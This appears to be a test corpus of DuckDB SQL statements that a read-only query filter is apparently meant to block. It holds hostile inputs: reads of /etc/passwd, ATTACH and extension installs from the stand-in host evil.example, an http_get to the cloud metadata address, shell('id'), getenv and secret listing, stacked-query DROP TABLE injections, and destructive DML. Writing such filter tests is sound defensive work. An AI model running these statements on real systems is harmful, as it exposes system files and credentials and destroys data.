INSERT INTO customers (id) VALUES (99)

UPDATE orders SET total = 0

DELETE FROM orders

TRUNCATE orders

DROP TABLE orders

CREATE TABLE evil AS SELECT 1

CREATE OR REPLACE TABLE orders AS SELECT 1

CREATE MACRO f(a) AS a

CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')

ALTER TABLE orders ADD COLUMN x INTEGER

COPY orders TO '/tmp/x.csv'

COPY (SELECT 1) TO '/tmp/x.parquet' (FORMAT parquet)

COPY orders FROM '/etc/passwd'

COPY FROM DATABASE a TO b

EXPORT DATABASE '/tmp/x'

IMPORT DATABASE '/tmp/x'

ATTACH '/tmp/evil.db' AS evil

ATTACH 'https://evil.example/x.db'

DETACH h

USE memory

INSTALL httpfs

LOAD httpfs

FORCE INSTALL spatial FROM 'http://evil.example'

UPDATE EXTENSIONS

SET enable_external_access = true

SET VARIABLE a = 1

RESET ALL

PRAGMA enable_profiling

PRAGMA profiling_output = '/tmp/x'

PRAGMA memory_limit = '100GB'

PRAGMA import_database('/tmp/x')

PRAGMA copy_database(a, b)

PRAGMA force_checkpoint

PRAGMA database_list

PRAGMA table_info('orders'); DELETE FROM orders

PRAGMA json_execute_serialized_sql('{}')

CALL force_checkpoint()

CALL pragma_version()

CHECKPOINT

VACUUM

ANALYZE

BEGIN

COMMIT

PREPARE p AS SELECT 1

EXECUTE p

EXPLAIN ANALYZE DELETE FROM orders

EXPLAIN COPY orders TO '/tmp/x.csv'

EXPLAIN ANALYZE INSERT INTO orders (id) VALUES (1)

DESCRIBE '/etc/passwd'

DESCRIBE 'x.csv'

DESCRIBE "x.csv"

SUMMARIZE '/etc/passwd'

SUMMARIZE SELECT * FROM read_csv('/etc/passwd')

SHOW 'x.csv'

SELECT * FROM '/etc/passwd'

SELECT * FROM 'data.csv'

SELECT * FROM "data.csv"

SELECT * FROM data.csv

SELECT * FROM "/tmp/data.parquet"

SELECT * FROM 'https://evil.example/data.parquet'

FROM 'data.json'

FROM 's3://bucket/key'

SELECT * FROM orders, 'data.csv'

SELECT * FROM orders JOIN 'data.csv' d ON true

SELECT * FROM orders SEMI JOIN 'data.csv' USING (id)

SELECT * FROM orders POSITIONAL JOIN 'data.csv'

SELECT (SELECT count(*) FROM 'data.csv')

WITH a AS (FROM 'data.csv') SELECT * FROM a

TABLE 'data.csv'

PIVOT 'data.csv' ON x USING sum(y)

UNPIVOT 'data.csv' ON x, y

SELECT * FROM read_csv('/etc/passwd')

SELECT * FROM read_csv_auto('/etc/passwd')

FROM read_text('/etc/passwd')

FROM read_blob('/etc/passwd')

SELECT * FROM read_parquet(['a', 'b'])

SELECT * FROM parquet_scan('x')

SELECT * FROM parquet_metadata('x')

SELECT * FROM read_json('x'), read_json_auto('x'), read_ndjson('x'), read_json_objects('x')

SELECT * FROM main.read_csv('/etc/passwd')

SELECT * FROM "read_csv"('/etc/passwd')

SELECT * FROM READ_CSV ('/etc/passwd')

SELECT * FROM read_csv/* */('/etc/passwd')

SELECT * FROM orders, LATERAL read_csv('x')

SELECT * FROM glob('/etc/*')

SELECT * FROM sniff_csv('/etc/passwd')

SELECT * FROM read_duckdb('/tmp/x.db')

SELECT * FROM seq_scan('orders')

SELECT * FROM arrow_scan(1, 2, 3)

SELECT * FROM pandas_scan(1)

SELECT * FROM python_map_function(1)

SELECT * FROM query('DELETE FROM orders')

SELECT * FROM query_table('data.csv')

SELECT * FROM json_execute_serialized_sql('{}')

SELECT getenv('HOME')

'HOME'.getenv()

SELECT 'HOME'.getenv()

SELECT name.getenv() FROM customers

SELECT current_setting('home_directory')

SELECT getvariable('a')

SELECT nextval('s'), setval('s', 1)

SELECT setseed(0.1)

SELECT write_log('x')

SELECT sleep_ms(100000)

SELECT pg_sleep(10)

SELECT error('x')

SELECT * FROM duckdb_secrets()

SELECT * FROM duckdb_settings()

SELECT * FROM duckdb_settings

SELECT * FROM duckdb_logs

SELECT * FROM duckdb_databases()

SELECT * FROM duckdb_extensions()

SELECT * FROM duckdb_temporary_files()

SELECT * FROM which_secret('x', 's3')

SELECT * FROM checkpoint()

SELECT * FROM enable_logging()

SELECT * FROM pragma_user_agent()

SELECT http_get('http://169.254.169.254/')

SELECT shell('id')

SELECT * FROM sqlite_scan('x', 'y')

SELECT * FROM postgres_query('x', 'y')

SELECT * FROM st_read('x')

SELECT * FROM read_xlsx('x')

SELECT * FROM iceberg_scan('x')

SELECT * FROM my_macro(1)

SELECT 1; DELETE FROM orders

SELECT $$a$$; DROP TABLE orders

SELECT E'\''; DROP TABLE orders; --'

SELECT '\'; DROP TABLE orders; --'

SELECT * INTO evil FROM orders

SELECT * FROM orders FOR UPDATE

WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d

WITH a AS (SELECT 1) INSERT INTO orders (id) SELECT 1

SELECT $1

SELECT ?

SELECT * FROM (DELETE FROM orders) x

orders

1 + 1

SELECT {# x #} 1

SELECT list_transform([1], lambda x : getenv('HOME'))

SELECT COLUMNS(c -> getenv(c)) FROM orders

SELECT [getenv(x) FOR x IN ['HOME']]
